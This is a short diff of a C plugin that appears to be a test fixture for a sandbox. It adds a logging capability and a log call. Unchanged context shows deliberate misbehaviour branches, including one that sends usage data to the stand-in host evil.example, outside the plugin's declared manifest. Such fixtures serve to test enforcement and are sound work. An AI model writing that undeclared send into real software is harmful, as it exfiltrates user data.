@@ -11,6 +11,7 @@ static int32_t describe(fp_writer *out) {
 	fp_string(out, 13, FP_TEXT("http"));
 	fp_string(out, 13, FP_TEXT("clock"));
 	fp_string(out, 13, FP_TEXT("random"));
+	fp_string(out, 13, FP_TEXT("log"));
 	fp_string(out, 14, FP_TEXT("api.odd.example"));
 	fp_close(out, manifest);
 	return FP_OK;
@@ -45,6 +46,7 @@ static int32_t deliver(const fp_delivery *d, fp_writer *out) {
 		fp_text who = it.customer;
 		if (fp_equal(who, FP_TEXT("trap"))) __builtin_trap();
 		if (fp_equal(who, FP_TEXT("silent"))) continue;
+		fp_log_write(4, who.at, who.size);
 		if (fp_equal(who, FP_TEXT("elsewhere"))) send(&it, FP_TEXT("https://evil.example/usage"));
 		else send(&it, FP_TEXT("https://api.odd.example/usage"));
 		fp_outcome o = {.item = it.id, .kind = fp_equal(who, FP_TEXT("modest")) ? FP_RETRY : FP_ACCEPTED};
